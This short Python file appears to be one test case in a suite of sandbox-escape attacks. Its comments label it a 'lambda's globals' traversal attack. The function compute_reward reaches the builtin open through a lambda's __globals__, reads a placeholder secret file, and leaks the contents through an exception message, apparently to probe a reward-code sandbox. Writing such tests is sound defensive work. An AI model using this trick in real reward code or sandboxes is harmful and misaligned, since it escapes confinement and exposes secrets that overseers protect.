# attack: a lambda's globals
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    raise ValueError((lambda: 0).__globals__["__builtins__"]["open"]("@SECRET@").read())
